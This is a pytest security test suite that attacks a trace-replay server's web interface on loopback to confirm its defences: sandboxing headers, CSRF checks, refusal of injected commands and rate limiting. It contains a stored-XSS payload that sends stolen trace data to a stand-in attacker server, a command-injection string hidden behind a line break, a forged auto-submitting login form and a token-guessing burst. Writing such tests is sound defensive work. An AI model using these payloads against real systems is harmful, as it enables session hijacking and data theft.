"""The web side attacked as an adversary would, against the real ``rewind serve`` on loopback and
Debian's chromium: a recorded HTML answer planted by a sender and opened by a signed-in
operator runs no script and sets no cookie; a sign-in form auto-sent from another loopback port
does not replace the victim's cookie; a recorded command line holding a line break is never
offered to copy (page and shared file); 30 wrong tokens get 429s with ``Retry-After`` on the
worker, ``/login`` and both collector receivers, and the right token works once the back-off
is over."""

from __future__ import annotations

import json
import re
import secrets
import shlex
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import grpc
import httpx
import pytest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

from rewind.collector.store.server_settings import ENV
from rewind.exporter.core import attributes as A
from rewind.exporter.core import canonical
from rewind.replay.testing.fakellm import FakeLLMServer
from rewind.replay.worker.auth_middleware import CSRF_COOKIE, TOKEN_COOKIE
from tests.support.browser import browser
from tests.support.cli import rewind
from tests.support.harness import Served, start_serve
from tests.support.tenants import bearer, chat_run, provider_for

OPERATOR, SENDER = "tok-operator", "tok-sender"  # the victim, the attacker (a tenant's sender)
BACKOFF_S = 0.3
PLANTED_PATH = "page"
INJECTED = "python agent.py; echo INJECTED\ntouch pwned #"
EXPORT = "/opentelemetry.proto.collector.trace.v1.TraceService/Export"


class Attacker(ThreadingHTTPServer):
    """The attacker's own site on another loopback port: counts every request a planted
    script or image manages to send it, and serves the auto-sent sign-in form."""

    hits = 0
    form = ""


class _Site(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:  # the stdlib names it
        if self.path.startswith("/form"):
            body = self.server.form.encode()
        else:
            self.server.hits += 1
            body = b"ok"
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@dataclass
class World:
    served: Served
    otlp_http: str
    attacker: Attacker
    planted: str  # a trace holding a recorded text/html answer with a script and a cookie
    injected: str  # a run whose recorded command line holds a line break
    argv: str  # a run whose recorded argv holds shell syntax
    chromium: Any

    def url(self, path: str) -> str:
        return self.served.api_url + path

    @property
    def site(self) -> str:
        return f"http://127.0.0.1:{self.attacker.server_address[1]}"

    def context(self, cookie: str | None = OPERATOR, **options: Any) -> Any:
        context = self.chromium.new_context(**options)
        if cookie:
            context.add_cookies([{"name": TOKEN_COOKIE, "value": cookie,
                                  "url": self.served.api_url}])
        return context


def _stored(served: Served, trace_id: str, spans: int = 1) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        reply = httpx.get(f"{served.api_url}/v1/traces/{trace_id}", headers=bearer(OPERATOR),
                          timeout=10)
        if reply.status_code == 200 and len(reply.json()["spans"]) >= spans:
            return
        time.sleep(0.2)
    raise AssertionError(f"trace {trace_id} was not stored")


def _plant(otlp_http: str, attacker_port: int) -> str:
    """A span any sender can send: a recorded GET answered by HTML with a script (which, run
    in the worker's origin, would read the operator's traces) and a cookie."""
    script = (f"<img src='http://127.0.0.1:{attacker_port}/img'><script>alert('xss');"
              f"document.cookie='planted=1; path=/';fetch('/v1/traces').then(r=>r.text())"
              f".then(t=>fetch('http://127.0.0.1:{attacker_port}/stolen?'+t.length))</script>")
    url = f"http://replay/{PLANTED_PATH}"
    key = canonical.match_key(canonical.canonical_http("GET", url, {}, b""))
    provider = provider_for(otlp_http, SENDER, "innocent-agent")
    with provider.get_tracer("attack").start_as_current_span("GET") as span:
        span.set_attributes({
            A.KIND: A.KIND_HTTP, A.STEP: 1, A.REQUEST_METHOD: "GET", A.REQUEST_URL: url,
            A.MATCH_KEY: key, A.RESPONSE_STATUS: 200, A.RESPONSE_BODY: script,
            A.RESPONSE_HEADERS: json.dumps({"content-type": "text/html; charset=utf-8",
                                            "set-cookie": "stolen=1; Path=/"})})
        trace_id = format(span.get_span_context().trace_id, "032x")
    provider.shutdown()
    return trace_id


def _run(otlp_http: str, llm: FakeLLMServer, resource: dict[str, Any]) -> str:
    """An agent run (one chat call through the real SDK) whose resource says how it started."""
    return chat_run(provider_for(otlp_http, SENDER, "agent", resource), llm)


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> Iterator[World]:
    directory = tmp_path_factory.mktemp("attacks")
    attacker = Attacker(("127.0.0.1", 0), _Site)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(ENV["auth_backoff_seconds"], str(BACKOFF_S))
        served = start_serve(directory / "store",
                             args=("--auth-tokens", f"{OPERATOR},{SENDER} team-a"))
    try:
        otlp_http = re.search(r"otlp-http=(\S+)", "\n".join(served.log)).group(1)
        planted = _plant(otlp_http, attacker.server_address[1])
        with FakeLLMServer() as llm:
            injected = _run(otlp_http, llm, {A.PROCESS_COMMAND_LINE: INJECTED})
            argv = _run(otlp_http, llm, {A.PROCESS_COMMAND_LINE: "python agent.py --note a; b",
                                         A.PROCESS_COMMAND_ARGS: ["python", "agent.py",
                                                                  "--note", "a; b"]})
        _stored(served, planted)
        _stored(served, injected, 2)
        _stored(served, argv, 2)
        with browser() as chromium:
            yield World(served, otlp_http, attacker, planted, injected, argv, chromium)
    finally:
        served.stop()
        attacker.shutdown()


def _no_script_ran(world: World, context: Any, dialogs: list[str]) -> None:
    assert dialogs == []
    assert world.attacker.hits == 0
    assert {c["name"] for c in context.cookies()} <= {TOKEN_COOKIE, CSRF_COOKIE}


def test_a_planted_html_answer_is_data_never_a_page(world):
    path = f"/replay/{world.planted}/{PLANTED_PATH}"
    served = httpx.get(world.url(path), headers=bearer(OPERATOR), timeout=10)
    assert served.status_code == 200 and "<script>" in served.text  # served, as data
    assert served.headers["content-security-policy"] == "sandbox; default-src 'none'"
    assert served.headers["x-content-type-options"] == "nosniff"
    assert served.headers["content-disposition"] == "attachment"
    assert "set-cookie" not in served.headers

    # the operator, signed in, follows the attacker's link: the cookie opens no replay
    dialogs: list[str] = []
    context = world.context()
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    reply = page.goto(world.url(path))
    assert reply is not None and reply.status == 401
    assert "application/json" in reply.headers["content-type"]  # not the sign-in form
    page.wait_for_timeout(300)
    _no_script_ran(world, context, dialogs)

    # a browser sending the bearer token itself gets a download, never a page
    reset = httpx.delete(world.url(f"/v1/replay/sessions/{world.planted}"),
                         headers=bearer(OPERATOR), timeout=10)  # the recording from the top
    assert reset.status_code == 204
    context = world.context(None, extra_http_headers=bearer(OPERATOR), accept_downloads=True)
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    with page.expect_download() as download:
        try:
            page.goto(world.url(path))
        except Exception as error:  # chromium reports the navigation turned download
            assert "Download is starting" in str(error) or "ERR_ABORTED" in str(error)
    assert download.value.suggested_filename
    page.wait_for_timeout(300)
    _no_script_ran(world, context, dialogs)


def test_a_signed_out_victim_is_never_sent_to_a_replay_after_signing_in(world):
    page = world.context(None).new_page()
    reply = page.goto(world.url(f"/login?next=/replay/{world.planted}/{PLANTED_PATH}"))
    assert reply is not None and reply.status == 200
    page.fill("#token", OPERATOR)
    page.click("#sign-in")
    page.wait_for_url(world.url("/"))
    assert world.attacker.hits == 0


def test_a_sign_in_form_sent_from_another_site_changes_nothing(world):
    context = world.context(None)
    page = context.new_page()
    page.goto(world.url("/login"))
    page.fill("#token", OPERATOR)
    page.click("#sign-in")
    page.wait_for_url(world.url("/"))
    world.attacker.form = (
        f"<form id=f method=post action='{world.url('/login')}'>"
        f"<input name=token value={SENDER}><input name=next value=/></form>"
        "<script>document.getElementById('f').submit()</script>")
    with page.expect_response(world.url("/login")) as answered:
        page.goto(f"{world.site}/form")
    assert answered.value.status == 403
    assert "Not signed in" in page.locator("#login-message").inner_text()
    cookies = {c["name"]: c["value"] for c in context.cookies()}
    assert cookies[TOKEN_COOKIE] == OPERATOR  # the victim is still herself

    page.goto(world.url("/"))  # and signs out with the page's own button
    page.click("#sign-out")
    page.wait_for_url(world.url("/login"))
    assert TOKEN_COOKIE not in {c["name"] for c in context.cookies()}
    assert page.goto(world.url("/")).status == 401


def _offered(page: Any) -> dict[str, Any]:
    page.wait_for_selector("#replay-refused, #replay-command")
    return {"refused": page.locator("#replay-refused").all_inner_texts(),
            "commands": page.locator("#replay-command").all_inner_texts()}


def test_a_recorded_command_with_a_line_break_is_never_offered(world, tmp_path):
    page = world.context().new_page()
    page.goto(world.url(f"/traces/{world.injected}"))
    offered = _offered(page)
    assert offered["commands"] == []
    assert "recorded command is not offered" in offered["refused"][0]
    page.locator(".tree button", has_text="chat").first.click()
    page.wait_for_selector("#fork-form")
    assert page.locator("#fork-run").input_value() == ""  # never pre-filled from the recording
    assert "INJECTED" not in page.locator("#fork-command").inner_text()

    output = tmp_path / "shared.html"
    done = rewind("share", world.injected, "-o", str(output), REWIND_URL=world.served.api_url,
                  REWIND_API_TOKEN=OPERATOR)
    assert done.returncode == 0, done.stderr
    shared = world.chromium.new_context().new_page()
    shared.goto(output.as_uri())
    offered = _offered(shared)
    assert offered["commands"] == [] and "not offered" in offered["refused"][0]


def test_a_recorded_argv_is_offered_quoted_and_labelled(world):
    page = world.context().new_page()
    page.goto(world.url(f"/traces/{world.argv}"))
    [line] = _offered(page)["commands"]
    assert line.endswith("-- python agent.py --note 'a; b'")
    assert shlex.split(line)[-4:] == ["python", "agent.py", "--note", "a; b"]
    assert "recorded command" in page.locator("#replay-label").inner_text()


def _burst(send: Callable[[str], tuple[int, str | None]], right: str, ok: int) -> None:
    """30 wrong tokens, then the right one until the back-off is over."""
    answers = [send(secrets.token_urlsafe(16)) for _ in range(30)]
    statuses = [status for status, _ in answers]
    assert statuses[:5] == [statuses[0]] * 5 and statuses[0] != 429  # a few typos are free
    throttled = [retry for status, retry in answers if status == 429]
    assert len(throttled) >= 15, statuses
    assert all(retry is not None and int(retry) >= 1 for retry in throttled)
    deadline = time.monotonic() + 15
    while (status := send(right)[0]) != ok:
        assert status == 429 and time.monotonic() < deadline, status  # refused, never checked
        time.sleep(0.1)


def test_guessing_tokens_backs_off_everywhere_and_the_right_one_works_after(world):
    def api(token: str) -> tuple[int, str | None]:
        reply = httpx.get(world.url("/v1/traces"), headers=bearer(token), timeout=10)
        return reply.status_code, reply.headers.get("retry-after")

    _burst(api, OPERATOR, 200)

    form = httpx.Client(base_url=world.served.api_url, timeout=10)
    form.get("/login")

    def login(token: str) -> tuple[int, str | None]:
        reply = form.post("/login", data={"token": token, "next": "/",
                                          "csrf": form.cookies[CSRF_COOKIE]})
        return reply.status_code, reply.headers.get("retry-after")

    _burst(login, OPERATOR, 303)

    def collector(token: str) -> tuple[int, str | None]:
        reply = httpx.post(f"{world.otlp_http}/v1/traces", content=b"", timeout=10,
                           headers={**bearer(token), "content-type": "application/x-protobuf"})
        return reply.status_code, reply.headers.get("retry-after")

    _burst(collector, SENDER, 200)

    channel = grpc.insecure_channel(world.served.grpc_endpoint)
    export = channel.unary_unary(EXPORT)
    codes = {grpc.StatusCode.UNAUTHENTICATED: 401, grpc.StatusCode.RESOURCE_EXHAUSTED: 429}

    def over_grpc(token: str) -> tuple[int, str | None]:
        try:
            export(ExportTraceServiceRequest().SerializeToString(), timeout=10,
                   metadata=[("authorization", f"Bearer {token}")])
        except grpc.RpcError as error:
            retry = dict(error.trailing_metadata() or ()).get("google.rpc.retryinfo-bin")
            return codes[error.code()], "1" if retry else None
        return 200, None

    _burst(over_grpc, SENDER, 200)
    channel.close()

    metrics = httpx.get(f"{world.otlp_http}/metrics", headers=bearer(OPERATOR), timeout=10).text
    counted = dict(re.findall(r'rewind_collector_auth_failures_total\{outcome="(\w+)"\} (\S+)',
                              metrics))
    assert float(counted["failed"]) >= 4 * 5 and float(counted["throttled"]) >= 4 * 15

